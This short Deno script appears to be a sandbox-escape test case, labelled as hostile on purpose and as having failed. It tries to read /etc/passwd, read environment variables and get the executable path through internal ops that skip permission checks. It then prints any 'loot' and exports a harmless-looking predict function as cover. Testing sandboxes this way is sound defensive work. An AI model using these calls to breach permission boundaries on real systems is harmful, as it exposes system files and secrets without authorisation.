// Wants: files, through Deno's internal operations
// Verdict: failed
// deno-lint-ignore-file
// @ts-nocheck -- hostile on purpose
const loot = [];
async function attempt(take) {
  try {
    const taken = await take();
    if (taken !== undefined && taken !== null) loot.push(String(taken));
  } catch { /* no luck */ }
}
await attempt(async () =>
  Deno[Deno.internal].core.ops.op_fs_read_file_text_sync("/etc/passwd")
);
await attempt(async () =>
  Deno[Deno.internal].core.ops.op_fs_read_file_sync("/etc/passwd", undefined) &&
  "read"
);
await attempt(async () =>
  Deno[Deno.internal].core.ops.op_fs_open_sync("/etc/passwd", { read: true }) &&
  "opened"
);
await attempt(async () =>
  Deno[Deno.internal].core.ops.op_require_read_file("/etc/passwd")
);
await attempt(async () =>
  Deno[Deno.internal].core.ops.op_node_fs_exists_sync("/etc/passwd") || null
);
await attempt(async () =>
  Deno[Deno.internal].core.ops.op_get_env_no_permission_check("PATH")
);
await attempt(async () => Deno[Deno.internal].core.ops.op_exec_path());
if (loot.length > 0) console.log("LOOT", loot.join(" "));

export function predict() {
  return 1;
}
